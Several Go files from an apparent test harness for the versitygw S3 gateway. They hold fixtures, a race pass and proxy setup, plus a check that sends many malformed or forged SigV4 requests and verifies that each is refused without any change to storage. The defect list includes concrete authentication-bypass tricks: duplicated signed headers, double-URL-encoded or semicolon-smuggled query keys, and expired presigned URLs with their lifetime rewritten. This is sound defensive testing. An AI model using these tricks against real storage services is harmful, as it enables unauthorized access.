			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			setAuth(r, func(a string) string { return strings.Replace(a, "AWS4-HMAC-SHA256", "AWS4-HMAC-SHA1", 1) })
			return sg
		}},
		{"malformed-credential-arity", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			setAuth(r, func(a string) string { return strings.Replace(a, "/s3/aws4_request", "/aws4_request", 1) })
			return sg
		}},
		{"malformed-service", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			setAuth(r, func(a string) string { return strings.Replace(a, "/s3/aws4_request", "/ec2/aws4_request", 1) })
			return sg
		}},
		{"unknown-access-key", func(r *gw.Req, ph string) gw.Signed { sg := sign(r, unknown, ph, gw.SignOpts{}); return sg }},
		{"wrong-secret-user", func(r *gw.Req, ph string) gw.Signed { sg := sign(r, bad, ph, gw.SignOpts{}); return sg }},
		{"wrong-secret-root", func(r *gw.Req, ph string) gw.Signed { sg := sign(r, badRoot, ph, gw.SignOpts{}); return sg }},
		{"signature-digit-changed", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			setAuth(r, flipHex)
			return sg
		}},
		{"signed-header-altered", func(r *gw.Req, ph string) gw.Signed {
			r.Set("x-amz-verif-probe", "original")
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			r.Set("x-amz-verif-probe", "altered")
			return sg
		}},
		{"query-altered", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			if r.Query == "" {
				r.Query = "x-verif-extra=1"
			} else {
				r.Query += "&x-verif-extra=1"
			}
			return sg
		}},
		{"payload-altered", func(r *gw.Req, ph string) gw.Signed {
			if len(r.Body) == 0 {
				r.Body = []byte("<x/>")
			}
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			r.Body = append([]byte{}, r.Body...)
			r.Body[len(r.Body)-1] ^= 1
			return sg
		}},
		// a signed header repeated with another value: whichever line the handlers act on, the proof
		// does not cover both lines
		{"signed-header-forged-line-before", func(r *gw.Req, ph string) gw.Signed { return dupSignedHeader(r, ph, true) }},
		{"signed-header-forged-line-after", func(r *gw.Req, ph string) gw.Signed { return dupSignedHeader(r, ph, false) }},
		// a query parameter added after signing, spelled so that a lax query parser drops it (';' inside the value)
		{"query-parameter-appended-with-semicolon-value(tagging)", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			if r.Query != "" {
				r.Query += "&"
			}
			r.Query += "tagging=;"
			return sg
		}},
		{"query-parameter-appended-with-semicolon-value(acl)", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			if r.Query != "" {
				r.Query += "&"
			}
			r.Query += "acl=;x"
			return sg
		}},
		{"date-16min-future", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{Time: time.Now().Add(16 * time.Minute)})
			return sg
		}},
		{"date-16min-past", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{Time: time.Now().Add(-16 * time.Minute)})
			return sg
		}},
		{"credential-date-mismatch", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{})
			setAuth(r, func(a string) string {
				today := time.Now().UTC().Format("20060102")
				return strings.Replace(a, "/"+today+"/", "/"+time.Now().UTC().Add(-48*time.Hour).Format("20060102")+"/", 1)
			})
			return sg
		}},
		{"wrong-region", func(r *gw.Req, ph string) gw.Signed {
			sg := sign(r, gw.Root, ph, gw.SignOpts{Region: "eu-west-7"})
			return sg
		}},
		{"presigned-expired", func(r *gw.Req, ph string) gw.Signed {
			sg := gw.Presign(r, gw.Root, gw.SignOpts{Time: time.Now().Add(-10 * time.Minute)}, 60)
			return sg
		}},
		// an expired url replayed with a longer lifetime in the query and the signed lifetime moved into a request
		// header that is named as signed (a verifier that lifts headers into the query sees what was signed)
		{"presigned-expired-lifetime-respelled", func(r *gw.Req, ph string) gw.Signed {
			sg := gw.Presign(r, gw.Root, gw.SignOpts{Time: time.Now().Add(-6 * time.Hour)}, 60)
			r.Query = strings.Replace(r.Query, "X-Amz-Expires=60", "X-Amz-Expires=604800", 1)
			for _, sep := range []string{"X-Amz-SignedHeaders=host&", "X-Amz-SignedHeaders=host"} {
				if strings.Contains(r.Query, sep) {
					r.Query = strings.Replace(r.Query, sep, strings.Replace(sep, "host", "host%3Bx-amz-expires", 1), 1)
					break
				}
			}
			r.Set("X-Amz-Expires", "60")
			return sg
		}},
		{"presigned-wrong-secret", func(r *gw.Req, ph string) gw.Signed { sg := gw.Presign(r, badRoot, gw.SignOpts{}, 600); return sg }},
		{"presigned-query-altered", func(r *gw.Req, ph string) gw.Signed {
			sg := gw.Presign(r, gw.Root, gw.SignOpts{}, 600)
			r.Query += "&x-verif-extra=1"
			return sg
		}},
		{"presigned-signature-altered", func(r *gw.Req, ph string) gw.Signed {
			sg := gw.Presign(r, gw.Root, gw.SignOpts{}, 600)
			r.Query = flipHex(r.Query)
			return sg
		}},
		{"presigned-expires-missing", func(r *gw.Req, ph string) gw.Signed {
			sg := gw.Presign(r, gw.Root, gw.SignOpts{}, 600)
			r.Query = strings.Replace(r.Query, "&X-Amz-Expires=600", "", 1)
			return sg
		}},
		// a signed query key re-spelled so that it reads as the signed key only after a second url-decoding
		// ('tagging' -> '%2574agging'): the handlers see another request than the one the signature covers
		{"presigned-query-key-respelled", func(r *gw.Req, ph string) gw.Signed {
			sg := gw.Presign(r, gw.Root, gw.SignOpts{}, 600)
			parts := strings.Split(r.Query, "&")
			done := false
			for i, p := range parts {
				if p != "" && !strings.HasPrefix(p, "X-Amz-") && !done {
					parts[i] = fmt.Sprintf("%%25%02X", p[0]) + p[1:]
					done = true
				}
			}
			if !done {
				// no parameter of its own: an added key that a lax re-parse of the rebuilt url drops (';' in the key)
				parts = append(parts, "versions%3Bx=1")
			}
			r.Query = strings.Join(parts, "&")
			return sg
		}},
		{"presigned-query-appended-key-with-semicolon", func(r *gw.Req, ph string) gw.Signed {
			sg := gw.Presign(r, gw.Root, gw.SignOpts{}, 600)
			r.Query += "&acl%3Bx=1"
			return sg
		}},
		{"presigned-query-pairs-fused", func(r *gw.Req, ph string) gw.Signed {
			sg := gw.Presign(r, gw.Root, gw.SignOpts{}, 600)
			// 'a=1&b=2' -> 'a%3D1%26b=2': one odd key to the handlers, the two signed parameters after a second decoding
			parts := strings.Split(r.Query, "&")
			if len(parts) >= 2 && !strings.HasPrefix(parts[0], "X-Amz-") && strings.Contains(parts[0], "=") {
				fused := strings.Replace(parts[0], "=", "%3D", 1) + "%26" + parts[1]
				r.Query = strings.Join(append([]string{fused}, parts[2:]...), "&")
			} else {
				r.Query += "&x-verif-extra%3D1%26y=2"
			}
			return sg
		}},
		{"presigned-dated-1h-in-the-future", func(r *gw.Req, ph string) gw.Signed {
			sg := gw.Presign(r, gw.Root, gw.SignOpts{Time: time.Now().Add(time.Hour)}, 600)
			return sg
		}},
		{"presigned-expires-8days", func(r *gw.Req, ph string) gw.Signed {
			sg := gw.Presign(r, gw.Root, gw.SignOpts{}, 8*24*3600)
			return sg
		}},
	}
}

// bodyMode is how the body of a request is encoded on the wire.
type bodyMode struct {
	Name string
	// Prepare returns the payload-hash header value and may rewrite the body (after signing for signed chunks).
	Hash string
	Wrap func(r *gw.Req, s gw.Signed)
}

func c02PathVariants(ep *EP, r *gw.Req) []struct {
	Name string
	Path string
} {
	out := []struct {
		Name string
		Path string
	}{{"plain", r.Path}}
	if ep.Level == "bucket" || ep.Level == "object" {
		if !strings.HasSuffix(r.Path, "/") {
			out = append(out, struct {
				Name string
				Path string
			}{"trailing-slash", r.Path + "/"})
		}
	}
	return out
}

// C02: endpoint × path shape × credential defect × body/encoding × target state.
func C02(r *ck.Run) {
	r.Rule("every endpoint shape of the table (S3 + admin) × path form (plain, trailing slash, key ending in '/') × every credential defect × body/encoding variants; each request is bracketed by byte-exact snapshots of root, versioning, sidecar and IAM directories; distinct = (config, endpoint, path form, defect, body mode)")
	r.Assume("empty .sgwtmp directories are bookkeeping the API cannot show and are ignored by the snapshot comparison; temp files in them are compared separately (a refused request must not leave one behind)")
	cfgs := []gw.Opts{{}, {Versioning: true}, {Sidecar: true}, {NoTmpFile: true}}
	if r.Thorough() {
		cfgs = append(cfgs, gw.Opts{NoTmpFile: true, Versioning: true}, gw.Opts{Sidecar: true, NoTmpFile: true})
	}
	defects := credDefects()
	eps := Endpoints()
	r.Sharded(16, func() {
		idx := 0
		for ci, cfg := range cfgs {
			var w *World
			var base, baseTmp gw.Snap
			fresh := func() {
				if w != nil {
					w.Close()
				}
				w = NewWorld("c02", cfg)
				if cfg.Versioning {
					// versioning-enabled bucket: an overwrite first preserves the current version
					Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "versioning", nil, []byte("<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>")), "enable versioning")
				}
				base = w.F.G.Snapshot(gw.SnapOpts{IgnoreTmp: true})
				baseTmp = w.F.G.Snapshot(gw.SnapOpts{OnlyTmpFiles: true})
			}
			fresh()
			if ci == 0 {
				RouteGuard(w)
			}
			for ei := range eps {
				ep := &eps[ei]
				if !ep.Applicable(w) {
					continue
				}
				for _, d := range defects {
					idx++
					if !r.Mine(idx) {
						continue
					}
					valid := ep.Build(w, "")
					for _, pv := range c02PathVariants(ep, valid) {
						// body variants: the endpoint's own body; for body-less requests also a 1-byte and 5 KiB body (thorough)
						bodies := [][]byte{valid.Body}
						if r.Thorough() && len(valid.Body) == 0 && valid.Method != "GET" && valid.Method != "HEAD" {
							bodies = append(bodies, []byte("x"), bytes.Repeat([]byte("y"), 5000))
						}
						modes := []string{"signed"}
						if ep.BigData {
							modes = append(modes, "unsigned", "stream-signed", "stream-unsigned-trailer")
						}
						for bi, b := range bodies {
							for _, mode := range modes {
								req := valid.Clone()
								req.Path = pv.Path
								req.Body = b
								ph := ""
								switch mode {
								case "unsigned":
									ph = gw.Unsigned
								case "stream-signed":
									ph = gw.StreamSigned
									req.Set("x-amz-decoded-content-length", fmt.Sprint(len(b)))
									req.Set("Content-Encoding", "aws-chunked")
								case "stream-unsigned-trailer":
									ph = gw.StreamUnsignedTrailer
									enc, _ := gw.EncodeUnsigned(gw.SplitChunks(b, []int{5}), "crc32")
									req.Set("x-amz-decoded-content-length", fmt.Sprint(len(b)))
									req.Set("x-amz-trailer", "x-amz-checksum-crc32")
									req.Set("Content-Encoding", "aws-chunked")
									req.Body = enc
								}
								if d.Name == "payload-altered" && mode != "signed" {
									continue
								}
								sg := d.Apply(req, ph)
								if mode == "stream-signed" {
									// chunk signatures chained from the signature the request actually claims,
									// with the key of the secret the (faulty) signer used
									if a := req.Get("Authorization"); strings.Contains(a, "Signature=") {
										sg.Signature = a[strings.LastIndex(a, "Signature=")+len("Signature="):]
									}
									enc, _ := gw.EncodeSigned(sg, gw.SplitChunks(b, []int{5}), "")
									req.Body = enc
								}
								if ep.BigData && r.Thorough() {
									// also deliver the last bytes of the request in reads of their own
									raw := req.Raw()
									if len(raw) > 4 {
										fr := req.Clone()
										fr.Frags = []int{len(raw) - 3, 1, 1}
										fresp := w.F.G.Do(fr)
										r.Add("evaluations", 1)
										if fresp.Err == nil && fresp.Status < 400 {
											r.Violation(ck.JoinSig(ep.ID, pv.Name, d.Name, fmt.Sprintf("status-%d", fresp.Status), "fragmented-delivery"), map[string]any{"endpoint": ep.ID, "defect": d.Name, "body_mode": mode, "request": fr.String(), "response": fresp.String()})
										}
									}
								}
								resp := w.F.G.Do(req)
								r.Add("evaluations", 1)
								r.Distinct(fmt.Sprintf("%d|%s|%s|%s|%s|%d", ci, ep.ID, pv.Name, d.Name, mode, bi))
								r.Outcome(fmt.Sprintf("%d", resp.Status))
								after := w.F.G.Snapshot(gw.SnapOpts{IgnoreTmp: true})
								diff := base.Diff(after, 6)
								var anomalies []string
								if resp.Err != nil {
									anomalies = append(anomalies, "no-wellformed-response")
								} else if resp.Status < 400 || resp.Status > 499 {
									anomalies = append(anomalies, fmt.Sprintf("status-%d", resp.Status))
								}
								if len(diff) > 0 {
									anomalies = append(anomalies, "state-changed")
								}
								// what the request delivered must not stay behind in a temp file either
								tmpDiff := baseTmp.Diff(w.F.G.Snapshot(gw.SnapOpts{OnlyTmpFiles: true}), 4)
								if len(tmpDiff) > 0 {
									anomalies = append(anomalies, "temp-file-left-behind")
									diff = append(diff, tmpDiff...)
								}
								if resp.Err == nil {
									for _, c := range w.Canaries() {
										if bytes.Contains(resp.Body, []byte(c)) || strings.Contains(fmt.Sprint(resp.Header), c) {
											anomalies = append(anomalies, "stored-data-returned")
											break
										}
									}
								}
								if len(anomalies) > 0 {
									bm := mode
									if bi > 0 {
										bm += "+extra-body"
									}
									r.Violation(ck.JoinSig(ep.ID, pv.Name, d.Name, strings.Join(anomalies, "+")), map[string]any{
										"config": fmt.Sprintf("%+v", cfg), "endpoint": ep.ID, "path_form": pv.Name, "defect": d.Name, "body_mode": bm,
										"request": req.String(), "headers": req.Headers, "body_len": len(req.Body), "response": resp.String(), "state_diff": diff})
								}
								if len(diff) > 0 {
									fresh()
								}
								if ei == 1 && d.Name == "wrong-secret-root" && ci == 0 {
									r.Sample(map[string]any{"endpoint": ep.ID, "path_form": pv.Name, "defect": d.Name, "request": req.String(), "status": resp.Status})
								}
							}
						}
					}
				}
			}
			w.Close()
		}
	})
}
