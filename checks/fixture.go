package checks

import (
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"syscall"

	"verif/ck"
	"verif/gw"
)

// Fx is a gateway over a scratch directory plus request helpers.
type Fx struct {
	G   *gw.GW
	Dir string
}

func NewFx(tag string, o gw.Opts) *Fx {
	if o.Dir == "" {
		d, _ := ck.Scratch(tag)
		o.Dir = d
	}
	g, err := gw.New(o)
	if err != nil {
		ck.Fatal("gateway: %v", err)
	}
	return &Fx{G: g, Dir: o.Dir}
}

// Close stops the gateway and removes the scratch directory.
func (f *Fx) Close() {
	f.G.Close()
	os.RemoveAll(f.Dir)
}

// Restart closes the gateway and builds a new one on the same storage.
func (f *Fx) Restart() {
	o := f.G.Opts
	f.G.Close()
	g, err := gw.New(o)
	if err != nil {
		ck.Fatal("restart: %v", err)
	}
	f.G = g
}

func H(kv ...string) [][2]string {
	var out [][2]string
	for i := 0; i+1 < len(kv); i += 2 {
		out = append(out, [2]string{kv[i], kv[i+1]})
	}
	return out
}

// NewReq builds an unsigned request.
func NewReq(method, path, query string, hdrs [][2]string, body []byte) *gw.Req {
	return &gw.Req{Method: method, Path: path, Query: query, Headers: append([][2]string(nil), hdrs...), Body: body}
}

// Do signs (header auth, signed payload) and sends.
func (f *Fx) Do(c gw.Creds, method, path, query string, hdrs [][2]string, body []byte) *gw.Resp {
	r := NewReq(method, path, query, hdrs, body)
	gw.Sign(r, c, gw.SignOpts{})
	return f.G.Do(r)
}

// Must is for fixture steps: a failure is a tooling error, not a violation.
func Must(resp *gw.Resp, what string) *gw.Resp {
	if !resp.OK() {
		ck.Fatal("fixture step %q failed: %s", what, resp)
	}
	return resp
}

func (f *Fx) CreateBucket(c gw.Creds, b string, hdrs ...string) *gw.Resp {
	return f.Do(c, "PUT", "/"+b, "", H(hdrs...), nil)
}

func (f *Fx) Put(c gw.Creds, b, k string, body []byte, hdrs ...string) *gw.Resp {
	return f.Do(c, "PUT", gw.ObjPath(b, k), "", H(hdrs...), body)
}

func (f *Fx) Get(c gw.Creds, b, k string, hdrs ...string) *gw.Resp {
	return f.Do(c, "GET", gw.ObjPath(b, k), "", H(hdrs...), nil)
}

func (f *Fx) Head(c gw.Creds, b, k string, hdrs ...string) *gw.Resp {
	return f.Do(c, "HEAD", gw.ObjPath(b, k), "", H(hdrs...), nil)
}

func (f *Fx) Delete(c gw.Creds, b, k string, hdrs ...string) *gw.Resp {
	return f.Do(c, "DELETE", gw.ObjPath(b, k), "", H(hdrs...), nil)
}

// CreateUser uses the admin API (PATCH /create-user) as root.
func (f *Fx) CreateUser(access, secret, role string, uid, gid int) *gw.Resp {
	body, _ := json.Marshal(map[string]any{"access": access, "secret": secret, "role": role, "userID": uid, "groupID": gid})
	return f.Do(gw.Root, "PATCH", "/create-user", "", nil, body)
}

// Pattern returns n position-dependent bytes (so truncation, duplication and
// reordering are all visible); salt distinguishes writers.
func Pattern(n int, salt byte) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte('a'+(i*7+int(salt)*13)%26) ^ byte((i>>8)&0x1f)
	}
	return b
}

func etagOf(body []byte) string { return `"` + gw.MD5Hex(body) + `"` }

func hdrLower(resp *gw.Resp, name string) string {
	if resp.Header == nil {
		return ""
	}
	return resp.Header.Get(name)
}

func fmtResp(resp *gw.Resp) string {
	if resp.Err != nil {
		return "ERR:" + resp.Err.Error()
	}
	s := fmt.Sprintf("%d", resp.Status)
	if c := resp.ErrCode(); c != "" {
		s += " " + c
	}
	return s
}

var _ = strings.Join

func readFileMax(path string, max int64) ([]byte, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	fi, err := f.Stat()
	if err != nil || fi.IsDir() {
		return nil, err
	}
	b := make([]byte, max)
	n, _ := f.Read(b)
	return b[:n], nil
}

func fileOwner(path string) (int, int) {
	fi, err := os.Stat(path)
	if err != nil {
		return -1, -1
	}
	if st, ok := fi.Sys().(*syscall.Stat_t); ok {
		return int(st.Uid), int(st.Gid)
	}
	return -1, -1
}
