package checks

import (
	"fmt"
	"os"
	"sync"

	"github.com/versity/versitygw/s3event"

	"verif/gw"
)

// RacePass is the auxiliary free-running pass of tools/racepass.sh: NOT a registered check and not a
// deciding step. The cooperative scheduler of C05/C16/C17/C19 only switches at file-system, lock and
// clock operations, and its hand-offs are happens-before edges that blind the race detector; so the same
// kinds of bodies (requests on colliding keys, account mutations against lookups, event delivery against
// the next request) are run here by free OS-scheduled goroutines in a binary built with -race, which
// reports unsynchronised memory accesses by happens-before analysis rather than by observed schedule.
func RacePass(iter int) {
	for _, cfg := range []gw.Opts{{Versioning: true, AccessLog: true, Debug: false}, {Sidecar: true}, {NoIAMCache: true, NoTmpFile: true}} {
		sink := newEvSink()
		ev, err := s3event.InitWebhookEventSender(sink.URL(), nil)
		if err != nil {
			fmt.Println("racepass: webhook:", err)
			os.Exit(2)
		}
		cfg.Events = ev
		f := NewFx("racepass", cfg)
		Must(f.CreateBucket(gw.Root, "rbk"), "bucket")
		Must(f.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(gw.Creds{Access: "ru1", Secret: "rsecret1aaaaaaaa"}, "userplus", 0, 0)), "user")
		u1 := gw.Creds{Access: "ru1", Secret: "rsecret1aaaaaaaa"}
		Must(f.CreateBucket(u1, "ubk"), "user bucket")
		if cfg.Versioning {
			Must(f.Do(gw.Root, "PUT", "/rbk", "versioning", nil, []byte(`<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>`)), "versioning")
		}
		keys := []string{"k", "d/k", "d/"}
		var wg sync.WaitGroup
		body := func(t int) {
			defer wg.Done()
			for i := 0; i < iter; i++ {
				k := keys[(i+t)%len(keys)]
				c := gw.Root
				b := "rbk"
				if t%3 == 2 {
					c, b = u1, "ubk"
				}
				var data []byte
				if k != "d/" {
					data = Pattern(40+i%7, byte(t))
				}
				switch (i + 2*t) % 12 {
				case 0, 1:
					f.Put(c, b, k, data, "x-amz-meta-w", fmt.Sprint(t), "x-amz-tagging", "t=1")
				case 2:
					f.Get(c, b, k)
				case 3:
					f.Head(c, b, k)
				case 4:
					f.Delete(c, b, k)
				case 5:
					f.Do(c, "GET", "/"+b, "list-type=2", nil, nil)
				case 6:
					f.Do(c, "PUT", "/"+b+"/copy", "", H("x-amz-copy-source", b+"/k"), nil)
				case 7:
					f.Do(c, "GET", "/"+b, "versions", nil, nil)
				case 8:
					r := f.Do(c, "POST", "/"+b+"/mp", "uploads", nil, nil)
					if id := xmlOf(r, "UploadId"); id != "" {
						p := f.Do(c, "PUT", "/"+b+"/mp", "partNumber=1&uploadId="+id, nil, Pattern(32, byte(t)))
						f.Do(c, "POST", "/"+b+"/mp", "uploadId="+id, nil, []byte(`<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>`+hdrLower(p, "etag")+`</ETag></Part></CompleteMultipartUpload>`))
					}
				case 9:
					f.Do(c, "POST", "/"+b, "delete", H("Content-MD5", gw.MD5B64([]byte(`<Delete><Object><Key>k</Key></Object><Object><Key>copy</Key></Object></Delete>`))), []byte(`<Delete><Object><Key>k</Key></Object><Object><Key>copy</Key></Object></Delete>`))
				case 10:
					// account churn against traffic of the same account
					acc := fmt.Sprintf("tmp%d", t)
					f.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(gw.Creds{Access: acc, Secret: "tmpsecret0000000"}, "user", 0, 0))
					f.Get(gw.Creds{Access: acc, Secret: "tmpsecret0000000"}, "rbk", "k")
					f.Do(gw.Root, "PATCH", "/update-user", "access="+acc, nil, []byte("<MutableProps><Secret>tmpsecret1111111</Secret></MutableProps>"))
					f.Get(gw.Creds{Access: acc, Secret: "tmpsecret1111111"}, "rbk", "k")
					f.Do(gw.Root, "PATCH", "/delete-user", "access="+acc, nil, nil)
				case 11:
					f.Do(c, "PUT", "/"+b+"/"+k, "tagging", nil, []byte(`<Tagging><TagSet><Tag><Key>a</Key><Value>b</Value></Tag></TagSet></Tagging>`))
					f.Do(gw.Root, "PATCH", "/list-users", "", nil, nil)
				}
			}
		}
		for t := 0; t < 8; t++ {
			wg.Add(1)
			go body(t)
		}
		wg.Wait()
		f.Close()
		sink.Close()
	}
	fmt.Println("racepass: bodies finished")
}

func xmlOf(r *gw.Resp, name string) string {
	if r == nil || !r.OK() {
		return ""
	}
	s := string(r.Body)
	i := indexOf(s, "<"+name+">")
	j := indexOf(s, "</"+name+">")
	if i < 0 || j < i {
		return ""
	}
	return s[i+len(name)+2 : j]
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}
