package checks

import (
	"fmt"
	"io"

	"github.com/versity/versitygw/s3api/utils"

	"verif/gw"
)

// The checksum-type parameter of the reader constructors has an unexported
// type, so only untyped constants can be passed from here.
func newSignedTrailer(src io.Reader, ad utils.AuthData, s *c12Stream) (io.Reader, error) {
	t := s.Signed.Time
	switch s.Algo {
	case "crc32":
		return utils.NewSignedChunkReader(src, ad, gw.Region, c12Secret, t, "x-amz-checksum-crc32", false)
	case "crc32c":
		return utils.NewSignedChunkReader(src, ad, gw.Region, c12Secret, t, "x-amz-checksum-crc32c", false)
	case "sha1":
		return utils.NewSignedChunkReader(src, ad, gw.Region, c12Secret, t, "x-amz-checksum-sha1", false)
	case "sha256":
		return utils.NewSignedChunkReader(src, ad, gw.Region, c12Secret, t, "x-amz-checksum-sha256", false)
	case "crc64nvme":
		return utils.NewSignedChunkReader(src, ad, gw.Region, c12Secret, t, "x-amz-checksum-crc64nvme", false)
	}
	return nil, fmt.Errorf("unknown algo %q", s.Algo)
}

func newUnsigned(src io.Reader, s *c12Stream) (io.Reader, error) {
	switch s.Algo {
	case "crc32":
		return utils.NewUnsignedChunkReader(src, "x-amz-checksum-crc32", false)
	case "crc32c":
		return utils.NewUnsignedChunkReader(src, "x-amz-checksum-crc32c", false)
	case "sha1":
		return utils.NewUnsignedChunkReader(src, "x-amz-checksum-sha1", false)
	case "sha256":
		return utils.NewUnsignedChunkReader(src, "x-amz-checksum-sha256", false)
	case "crc64nvme":
		return utils.NewUnsignedChunkReader(src, "x-amz-checksum-crc64nvme", false)
	}
	return nil, fmt.Errorf("unknown algo %q", s.Algo)
}
