package checks

import (
	"bufio"
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"

	"github.com/versity/versitygw/backend/s3proxy"

	"verif/ck"
	"verif/gw"
)

func init() {
	Registry["C18"] = C18
	Registry["C18SERVE"] = c18Serve
}

// c18Serve: child process — a posix gateway on a loopback TCP port (the "other S3 endpoint").
func c18Serve(r *ck.Run) {
	dir := os.Getenv("VERIF_C18_DIR")
	g, err := gw.New(gw.Opts{Dir: dir, Versioning: true})
	if err != nil {
		ck.Fatal("serve: %v", err)
	}
	addr, err := g.ListenTLS()
	if err != nil {
		ck.Fatal("serve listen: %v", err)
	}
	fmt.Printf("ADDR %s\n", addr)
	os.Stdout.Sync()
	// serve until the parent closes our stdin
	buf := make([]byte, 16)
	for {
		if _, err := os.Stdin.Read(buf); err != nil {
			break
		}
	}
	os.Exit(0)
}

type c18Env struct {
	dir    string // endpoint storage (child)
	addr   string
	child  *exec.Cmd
	stdin  interface{ Close() error }
	P      *gw.GW // gateway whose backend is the s3 proxy
	pdir   string
	direct func(r *gw.Req) *gw.Resp
}

func newC18Env() *c18Env {
	dir, _ := ck.Scratch("c18d")
	pdir, _ := ck.Scratch("c18p")
	exe, err := os.Executable()
	if err != nil {
		exe = os.Args[0]
	}
	cmd := exec.Command(exe, "-prop", "C18SERVE")
	cmd.Env = append(os.Environ(), "VERIF_C18_DIR="+dir, "VERIF_SHARD=", "VERIF_PARTIAL=")
	in, _ := cmd.StdinPipe()
	out, _ := cmd.StdoutPipe()
	cmd.Stderr = nil
	if err := cmd.Start(); err != nil {
		ck.Fatal("start endpoint: %v", err)
	}
	sc := bufio.NewScanner(out)
	addr := ""
	for sc.Scan() {
		if strings.HasPrefix(sc.Text(), "ADDR ") {
			addr = strings.TrimPrefix(sc.Text(), "ADDR ")
			break
		}
	}
	if addr == "" {
		ck.Fatal("endpoint process did not report its address")
	}
	go func() {
		for sc.Scan() {
		}
	}()
	e := &c18Env{dir: dir, addr: addr, child: cmd, stdin: in, pdir: pdir}
	e.direct = func(r *gw.Req) *gw.Resp {
		// a transport error on the harness's own connection (the endpoint rejected the request and
		// closed before the body was written, and the reset overtook its response) is not an observation
		// of the gateway: the rejected request changed nothing, so it is re-sent
		var resp *gw.Resp
		for try := 0; try < 4; try++ {
			resp = gw.DoTLS(addr, r)
			if resp.Err == nil {
				return resp
			}
		}
		ck.Fatal("endpoint connection: %v", resp.Err)
		return resp
	}
	// accounts on the endpoint (the proxy authenticates there as root)
	for _, u := range []struct {
		c    gw.Creds
		role string
	}{{cUp, "userplus"}, {cUsr2, "user"}} {
		req := NewReq("PATCH", "/create-user", "", nil, xmlUser(u.c, u.role, 0, 0))
		gw.Sign(req, gw.Root, gw.SignOpts{})
		Must(e.direct(req), "endpoint create user")
	}
	// the sandbox exports AWS_CA_BUNDLE, which the SDK cannot combine with the plain http.Client s3proxy configures
	os.Unsetenv("AWS_CA_BUNDLE")
	be, err := s3proxy.New(gw.RootAccess, gw.RootSecret, "https://"+addr, gw.Region, false, true, os.Getenv("VERIF_C18_DEBUG") != "")
	if err != nil {
		ck.Fatal("s3proxy.New: %v", err)
	}
	p, err := gw.New(gw.Opts{Dir: pdir, Backend: be})
	if err != nil {
		ck.Fatal("proxy gateway: %v", err)
	}
	e.P = p
	for _, u := range []struct {
		c    gw.Creds
		role string
	}{{cUp, "userplus"}, {cUsr2, "user"}} {
		req := NewReq("PATCH", "/create-user", "", nil, xmlUser(u.c, u.role, 0, 0))
		gw.Sign(req, gw.Root, gw.SignOpts{})
		Must(p.Do(req), "proxy create user")
	}
	return e
}

func (e *c18Env) Close() {
	e.P.Close()
	e.stdin.Close()
	e.child.Process.Kill()
	e.child.Wait()
	os.RemoveAll(e.dir)
	os.RemoveAll(e.pdir)
}

// reset wipes the endpoint's buckets (its accounts stay).
func (e *c18Env) reset() {
	for _, sub := range []string{"root", "ver"} {
		root := filepath.Join(e.dir, sub)
		ents, _ := os.ReadDir(root)
		for _, en := range ents {
			os.RemoveAll(filepath.Join(root, en.Name()))
		}
	}
}

type c18Op struct {
	Name string
	// BadSig: the request is signed with a wrong secret (both sides must refuse it and change nothing)
	BadSig bool
	// Stream: the body is sent aws-chunked with signed chunks (sizes 5, 1, rest)
	Stream bool
	Req    func(st map[string]string) *gw.Req
	// Post extracts state (upload id, part etag) from the response
	Post func(st map[string]string, resp *gw.Resp)
}

const c18B = "pxb"

func c18Ops(thorough bool) []c18Op {
	big := Pattern(70000, 4)
	tag := "<Tagging><TagSet><Tag><Key>tk</Key><Value>tv</Value></Tag></TagSet></Tagging>"
	pol := fmt.Sprintf(`{"Statement":[{"Effect":"Allow","Principal":"usr2","Action":"s3:GetObject","Resource":"arn:aws:s3:::%s/*"}]}`, c18B)
	ops := []c18Op{
		{Name: "CreateBucket", Req: func(map[string]string) *gw.Req { return NewReq("PUT", "/"+c18B, "", nil, nil) }},
		{Name: "DeleteBucket", Req: func(map[string]string) *gw.Req { return NewReq("DELETE", "/"+c18B, "", nil, nil) }},
		{Name: "PutObject small+meta", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "k1"), "", H("x-amz-meta-color", "Blue", "Content-Type", "text/plain", "Cache-Control", "no-cache", "Content-Disposition", "attachment", "Content-Encoding", "identity", "Content-Language", "en"), []byte("x"))
		}},
		{Name: "PutObject empty", Req: func(map[string]string) *gw.Req { return NewReq("PUT", gw.ObjPath(c18B, "k1"), "", nil, nil) }},
		{Name: "PutObject empty, wrong secret", BadSig: true, Req: func(map[string]string) *gw.Req { return NewReq("PUT", gw.ObjPath(c18B, "k1"), "", nil, nil) }},
		{Name: "PutObject small, wrong secret", BadSig: true, Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "k1"), "", H("x-amz-meta-color", "Red"), []byte("forged"))
		}},
